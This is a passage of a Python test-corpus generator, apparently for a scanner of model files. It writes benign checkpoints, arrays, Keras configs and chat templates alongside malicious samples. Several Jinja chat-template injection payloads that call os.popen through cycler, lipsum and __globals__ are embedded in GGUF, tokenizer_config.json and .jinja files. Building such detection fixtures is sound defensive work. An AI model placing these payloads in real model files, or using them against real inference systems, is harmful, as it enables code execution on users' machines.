                          "{{ cycler.__init__[k].os.popen('SENTINEL_CMD') }}",
                          _gguf_with_template)),
        ("tokenizer_config.json", "Hugging Face tokenizer chat template", "lipsum",
         _template_writer("{{ lipsum.__globals__['os'].popen('SENTINEL_CMD').read() }}",
                          lambda t: json.dumps({"chat_template": t}).encode())),
        ("chat_template.jinja", "bare Jinja chat template", "__globals__",
         _template_writer("{{ self.__init__.__globals__.__builtins__.__import__('os')"
                          ".popen('SENTINEL_CMD') }}", str.encode)),
    ]  # fmt: skip
    return [Sample(name, True, kind, expect, write) for name, kind, expect, write in rows]


# --- benign files ----------------------------------------------------------------------------


def _save(make: Callable[[], object], **kwargs: bool) -> Writer:
    """Write ``torch.save(make(), path)``: the object is built only when the file is written."""

    def write(path: Path, sentinel: str) -> None:
        torch.save(make(), path, **kwargs)

    return write


def _optimizer_state() -> dict[str, object]:
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3, betas=(0.9, 0.99))
    model(torch.randn(3, 4)).sum().backward()
    optimizer.step()
    state: dict[str, object] = optimizer.state_dict()
    return state


def _checkpoint() -> dict[str, object]:
    torch.manual_seed(0)
    return {
        "epoch": 7,
        "best_accuracy": 0.9375,
        "name": "tiny",
        "flags": (True, False, None),
        "schedule": [[0, 1e-3], [5, 1e-4]],
        "history": {"loss": [1.2, 0.7, 0.4], "tags": ("a", "b")},
        "model": torch.nn.Linear(3, 2).state_dict(),
    }


def _misc() -> dict[str, object]:
    return {
        "shape": torch.Size([2, 3]),
        "device": torch.device("cpu"),
        "dtype": torch.float16,
        "parameter": torch.nn.Parameter(torch.ones(2)),
        "set": {1, 2},
        "complex": 1 + 2j,
        "bytes": b"\x00\x01raw",
        "bytearray": bytearray(b"ba"),
        "bf16": torch.arange(3, dtype=torch.bfloat16),
        "uint16": torch.tensor([1, 2, 3]).to(torch.uint16),
        "int": torch.arange(3),
        "array": np.arange(6, dtype=np.float32).reshape(2, 3),
    }


def _torchvision_state(name: str) -> Callable[[], dict[str, torch.Tensor]]:
    """A torchvision model's state dict, built without weights (no download)."""

    def make() -> dict[str, torch.Tensor]:
        import torchvision  # only when the file is written: importing it takes a while

        torch.manual_seed(0)
        state: dict[str, torch.Tensor] = torchvision.models.get_model(
            name, weights=None
        ).state_dict()
        return state

    return make


def _small() -> dict[str, torch.Tensor]:
    torch.manual_seed(0)
    return torch.nn.Linear(5, 3).state_dict()


def _half() -> dict[str, torch.Tensor]:
    return {name: tensor.half() for name, tensor in _small().items()}


def _safetensors_torch(path: Path, sentinel: str) -> None:
    from safetensors.torch import save_file

    torch.manual_seed(0)
    save_file({"weight": torch.randn(4, 3), "bias": torch.zeros(4)}, str(path),
              metadata={"format": "pt"})  # fmt: skip


def _safetensors_numpy(path: Path, sentinel: str) -> None:
    from safetensors.numpy import save_file

    save_file({"table": np.arange(12, dtype=np.int64).reshape(3, 4)}, str(path),
              metadata={"source": "numpy"})  # fmt: skip


def _functional_config() -> dict[str, object]:
    relu = {"module": "keras.activations", "class_name": "function", "config": "relu",
            "registered_name": "function"}  # fmt: skip
    dense = _dense("hidden", 8, "linear")
    dense["config"]["activation"] = relu  # type: ignore[index]
    dense["inbound_nodes"] = [{"args": [{"class_name": "__keras_tensor__", "config": {
        "shape": [None, 4], "dtype": "float32", "keras_history": ["input", 0, 0]}}],
        "kwargs": {}}]  # fmt: skip
    compile_config = {
        "optimizer": _keras_layer("Adam", {"learning_rate": 0.001}, module="keras.optimizers"),
        "loss": _keras_layer("SparseCategoricalCrossentropy", {"from_logits": True},
                             module="keras.losses"),
        "metrics": ["accuracy"],
    }  # fmt: skip
    config = _keras_layer(
        "Functional",
        {"name": "functional", "layers": [dense], "input_layers": [["input", 0, 0]],
         "output_layers": [["hidden", 0, 0]]},
        module="keras.src.models.functional",
    )  # fmt: skip
    config["compile_config"] = compile_config
    return config


_CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\n' + "
    "message['content'] + '<|im_end|>\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
_TOOL_TEMPLATE = (
    "{%- set ns = namespace(system='') -%}"
    "{%- for message in messages -%}"
    "{%- if message['role'] == 'system' -%}{%- set ns.system = message['content'] -%}"
    "{%- continue -%}{%- endif -%}"
    "{%- if message['role'] not in ['user', 'assistant', 'tool'] -%}"
    "{{ raise_exception('unknown role ' ~ message['role']) }}{%- endif -%}"
    "{{- '<|' ~ message['role'] ~ '|>\n' ~ message['content'] | trim ~ '\n' -}}"
    "{%- if message.tool_calls is defined -%}{%- for call in message.tool_calls -%}"
    "{{ call.function.name }}({{ call.function.arguments | tojson }})"
    "{%- endfor -%}{%- endif -%}"
    "{%- endfor -%}"
    "{%- if tools -%}{{ tools | map(attribute='name') | join(', ') }}{%- endif -%}"
    "{%- if add_generation_prompt -%}{% generation %}{{ '<|assistant|>\n' }}"
    "{% endgeneration %}{%- endif -%}"
)


def _benign() -> list[Sample]:
    rows: list[tuple[str, str, str, Writer]] = [
        ("resnet18.pth", "torchvision resnet18 state dict", "torch",
         _save(_torchvision_state("resnet18"))),
        ("mobilenet_v3_small.pt", "torchvision mobilenet_v3_small state dict", "torch",
         _save(_torchvision_state("mobilenet_v3_small"))),
        ("efficientnet_b0.pth", "torchvision efficientnet_b0 state dict", "torch",
         _save(_torchvision_state("efficientnet_b0"))),
        ("adamw.pt", "AdamW optimizer state", "torch", _save(_optimizer_state)),
        ("checkpoint.pt", "dict of nested lists, tuples, ints, floats, strings", "torch",
         _save(_checkpoint)),
        ("misc.pt", "Size, device, dtype, Parameter, sets, bytes, bf16/uint16, numpy",
         "torch-full", _save(_misc)),
        ("legacy_state.pt", "legacy (pre-zip) torch.save state dict", "torch",
         _save(_small, _use_new_zipfile_serialization=False)),
        ("pytorch_model.bin", "state dict with a .bin name", "torch", _save(_small)),
        ("weights", "state dict without extension", "torch", _save(_small)),
        ("half.pt", "float16 state dict", "torch", _save(_half)),
        ("floats.npy", ".npy float32", "",
         _bytes_writer(lambda s: _npy(np.linspace(0, 1, 12, dtype=np.float32)))),
        ("fortran.npy", ".npy int64, Fortran order", "",
         _bytes_writer(lambda s: _npy(np.asfortranarray(np.arange(12).reshape(3, 4))))),
        ("arrays.npz", ".npz of numeric arrays", "",
         _bytes_writer(lambda s: _npz({"a": np.ones(3), "b": np.arange(4)}))),
        ("compressed.npz", "compressed .npz", "",
         _bytes_writer(lambda s: _npz({"a": np.zeros((8, 8))}, compressed=True))),
        ("labels.npy", ".npy object array of strings and ints", "",
         _bytes_writer(lambda s: _npy(np.array(["cat", 3, None], dtype=object)))),
        ("model.safetensors", "safetensors from torch", "safetensors", _safetensors_torch),
        ("table.safetensors", "safetensors from numpy, with metadata", "", _safetensors_numpy),
        ("sequential.keras", "Keras Sequential config", "",
         _bytes_writer(lambda s: _keras_archive(_sequential(
             [_dense("dense", 8, "relu"), _dense("out", 2, "softmax")])))),
        ("functional.keras", "Keras Functional config with compile config", "",
         _bytes_writer(lambda s: _keras_archive(_functional_config()))),
        ("chatml.gguf", "GGUF with a ChatML template", "",
         _bytes_writer(lambda s: _gguf_with_template(_CHATML))),
        ("tools.gguf", "GGUF with a tool-use template (namespace, loop controls)", "",
         _bytes_writer(lambda s: _gguf_with_template(_TOOL_TEMPLATE))),
        ("benign_tokenizer_config.json", "tokenizer_config.json with a chat template", "",
         _bytes_writer(lambda s: json.dumps({"chat_template": _CHATML,
                                             "eos_token": "<|im_end|>"}).encode())),
        ("plain_protocol2.pkl", "plain pickle of data, protocol 2", "",
         _bytes_writer(lambda s: pickle.dumps(_plain_data(), protocol=2))),
        ("plain_protocol5.pkl", "plain pickle of data, protocol 5", "",
         _bytes_writer(lambda s: pickle.dumps(_plain_data(), protocol=5))),
        ("bundle.zip", "torch archive inside a zip", "",
         _bytes_writer(lambda s: _zip([("model/weights.pth", _torch_bytes(_small()))]))),
        ("legacy_tar_state.pt", "legacy tar torch checkpoint", "",
         _bytes_writer(lambda s: _legacy_tar({"w": _PersistentTensor("1")}))),
        ("data.pkl.gz", "gzip-compressed plain pickle", "",
         _bytes_writer(lambda s: gzip.compress(pickle.dumps(_plain_data(), protocol=4)))),
    ]  # fmt: skip
    return [Sample(name, False, kind, expect, write) for name, kind, expect, write in rows]


def _plain_data() -> dict[str, object]:
    return {"ints": [1, 2, 3], "floats": (0.5, 1.5), "text": "ok", "nested": {"a": None},
            "set": {1, 2}, "bytes": b"\x00\xff", "complex": 2j}  # fmt: skip


def samples() -> list[Sample]:
    """Every sample: malicious first, then benign."""
    return _pickle_gadgets() + _pickle_structures() + _archives() + _formats() + _benign()


def write_corpus(folder: Path) -> list[Sample]:
    """Write every sample into ``folder`` (created); payloads point at ``folder/SENTINEL``."""
    folder.mkdir(parents=True, exist_ok=True)
    sentinel = str((folder / SENTINEL_NAME).resolve())
    written = samples()
    with warnings.catch_warnings():  # the duplicate zip member and TorchScript are on purpose
        warnings.simplefilter("ignore", UserWarning)
        warnings.simplefilter("ignore", FutureWarning)
        for sample in written:
            sample.write(folder / sample.name, sentinel)
    return written
